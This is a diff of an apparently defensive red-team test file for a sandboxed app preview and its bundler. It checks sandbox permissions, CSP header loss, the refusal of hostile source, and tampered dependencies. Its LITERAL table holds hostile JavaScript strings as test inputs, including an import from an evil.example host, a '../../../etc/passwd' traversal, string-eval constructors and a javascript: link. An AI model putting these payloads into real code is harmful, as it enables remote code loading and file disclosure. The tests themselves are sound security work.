@@ -18,7 +18,7 @@ const LITERAL: Record<string, string> = {
   "async-constructor": 'Object.getPrototypeOf(async () => 0).constructor("return 1")()',
   timer: 'setTimeout("run()", 1)',
   "import-address": 'import "https://evil.example/x.js"',
-  "import-computed": 'import(location.hash.slice(1))',
+  "import-computed": "import(location.hash.slice(1))",
   "import-data": 'import "data:text/javascript,1"',
   "import-blob": 'import "blob:null/1"',
   "import-outside": 'import "../../../etc/passwd"',
@@ -33,6 +33,9 @@ const LITERAL: Record<string, string> = {
   link: 'export const a = <a href="javascript:run()">x</a>',
 };
 
+/** What React and the policies refuse anyway is a warning. */
+const WARNED = ["script-address", "handler", "link"];
+
 test("the frame's sandbox holds exactly two permissions", async ({ studio, page, rows }) => {
   await ActionApp.start(studio, CALM);
   const shell = page.frames().find((frame) => frame.url().endsWith("/sandbox/shell.html"));
@@ -40,7 +43,12 @@ test("the frame's sandbox holds exactly two permissions", async ({ studio, page,
   rows.check("E01", "attribute", sandbox === "allow-scripts allow-forms", String(sandbox));
   const response = await page.request.get("/sandbox/shell.html");
   const html = await response.text();
-  rows.check("E01", "nowhere-same-origin", !html.includes("allow-same-origin") && !(response.headers()["content-security-policy"] ?? "").includes("allow-same-origin"));
+  rows.check(
+    "E01",
+    "nowhere-same-origin",
+    !html.includes("allow-same-origin") &&
+      !(response.headers()["content-security-policy"] ?? "").includes("allow-same-origin"),
+  );
 });
 
 test("a shell that lost its headers shows no app", async ({ studio, page, rows }) => {
@@ -50,13 +58,19 @@ test("a shell that lost its headers shows no app", async ({ studio, page, rows }
       delete headers["content-security-policy"];
     },
     "sandbox-directive": (headers) => {
-      headers["content-security-policy"] = (headers["content-security-policy"] ?? "").replace(/sandbox [^;]*; /, "");
+      headers["content-security-policy"] = (headers["content-security-policy"] ?? "").replace(
+        /sandbox [^;]*; /,
+        "",
+      );
     },
     "script-policy": (headers) => {
       headers["content-security-policy"] = "sandbox allow-scripts allow-forms";
     },
     "script-policy-with-eval": (headers) => {
-      headers["content-security-policy"] = (headers["content-security-policy"] ?? "").replace("script-src ", "script-src 'unsafe-eval' ");
+      headers["content-security-policy"] = (headers["content-security-policy"] ?? "").replace(
+        "script-src ",
+        "script-src 'unsafe-eval' ",
+      );
     },
   };
   for (const [name, lose] of Object.entries(losses)) {
@@ -70,7 +84,10 @@ test("a shell that lost its headers shows no app", async ({ studio, page, rows }
     const notice = page.locator(".preview-notices");
     await expect(notice).toContainText(/sandbox/i, { timeout: 15_000 });
     const said = ((await notice.textContent()) ?? "").trim();
-    const shown = await studio.app.getByRole("button", { name: "idle" }).isVisible().catch(() => false);
+    const shown = await studio.app
+      .getByRole("button", { name: "idle" })
+      .isVisible()
+      .catch(() => false);
     rows.check("E13", name, !shown, said);
     await page.unroute("**/sandbox/shell.html");
   }
@@ -133,8 +150,14 @@ test("nothing of an app stays for the next one", async ({ context, studio, page,
 
 test("the bundler refuses what an attacker writes plainly", async ({ rows }) => {
   for (const [name, text] of Object.entries(LITERAL)) {
-    const findings = check({ "src/App.tsx": `export default function App() { return <p>x</p>; }\nimport "./attack";\n`, "src/attack.tsx": `${text};\n` });
-    rows.check("E07", `bundler-${name}`, findings.errors > 0, findings.text.slice(0, 200));
+    const findings = check({
+      "src/App.tsx": `export default function App() { return <p>x</p>; }\nimport "./attack";\n`,
+      "src/attack.tsx": `${text};\n`,
+    });
+    const told = WARNED.includes(name)
+      ? /warning\[(script-url|html-attribute)\]/.test(findings.text)
+      : findings.refused;
+    rows.check("E07", `bundler-${name}`, told, findings.text.slice(0, 200));
   }
 });
 
@@ -151,7 +174,12 @@ test("hostile source breaks nothing", async ({ studio, page, host, rows }) => {
   };
   for (const [name, text] of Object.entries(sources)) {
     const { status, text: said } = check({ "src/App.tsx": text });
-    rows.check("D11", `bundler-${name}`, status !== null && status < 100 && !/panicked|overflow/.test(said), `ended with ${status}: ${said.slice(0, 150)}`);
+    rows.check(
+      "D11",
+      `bundler-${name}`,
+      status !== null && status < 100 && !/panicked|overflow/.test(said),
+      `ended with ${status}: ${said.slice(0, 150)}`,
+    );
   }
   const project = await Project.start(studio, {
     "src/App.tsx": `
@@ -173,7 +201,9 @@ export default function App() { return <ul role="list">{texts.map((text) => <li 
 });
 
 test("a dependency file that was changed is not run", async ({ studio, page, rows }) => {
-  const files = { "src/App.tsx": `import { nanoid } from "nanoid";\nexport default function App() { return <p>app {nanoid().length}</p>; }\n` };
+  const files = {
+    "src/App.tsx": `import { nanoid } from "nanoid";\nexport default function App() { return <p>app {nanoid().length}</p>; }\n`,
+  };
   await page.route("**/deps/*.js", async (route) => {
     const response = await route.fetch();
     await route.fulfill({ response, body: `${await response.text()}\n;globalThis.tampered = 1;` });
@@ -199,22 +229,35 @@ test("a dependency file that was changed is not run", async ({ studio, page, row
   await studio.ready();
   await expect(studio.app.getByText("app 21")).toBeVisible();
   const title = await page.frames().at(-1)?.title();
-  rows.check("D12", "changed-in-the-cache", changed > 0 && title !== "tampered", `${changed} files, title ${title}`);
+  rows.check(
+    "D12",
+    "changed-in-the-cache",
+    changed > 0 && title !== "tampered",
+    `${changed} files, title ${title}`,
+  );
 });
 
 /** Checks an app with the bundler itself; `status` is null when it was killed. */
-function check(files: Record<string, string>): { status: number | null; errors: number; text: string } {
+function check(files: Record<string, string>): { status: number | null; refused: boolean; text: string } {
   const folder = mkdtempSync(join(tmpdir(), "cumulet-redteam-"));
   mkdirSync(join(folder, "src"));
   for (const [path, text] of Object.entries(files)) writeFileSync(join(folder, path), text);
   try {
     const args = ["check", "--site", required("CUMULET_SITE"), folder];
-    const text = execFileSync(required("CUMULET_SERVER"), args, { encoding: "utf8", stdio: "pipe", timeout: 30_000 });
-    return { status: 0, errors: 0, text };
+    const text = execFileSync(required("CUMULET_SERVER"), args, {
+      encoding: "utf8",
+      stdio: "pipe",
+      timeout: 30_000,
+    });
+    return { status: 0, refused: false, text };
   } catch (error) {
-    const { status = null, stdout = "", stderr = "" } = error as { status?: number | null; stdout?: string; stderr?: string };
+    const {
+      status = null,
+      stdout = "",
+      stderr = "",
+    } = error as { status?: number | null; stdout?: string; stderr?: string };
     const text = `${stdout}${stderr}`;
-    return { status, errors: status === null ? 0 : 1, text };
+    return { status, refused: status === 1 && text.includes("error["), text };
   } finally {
     rmSync(folder, { recursive: true });
   }
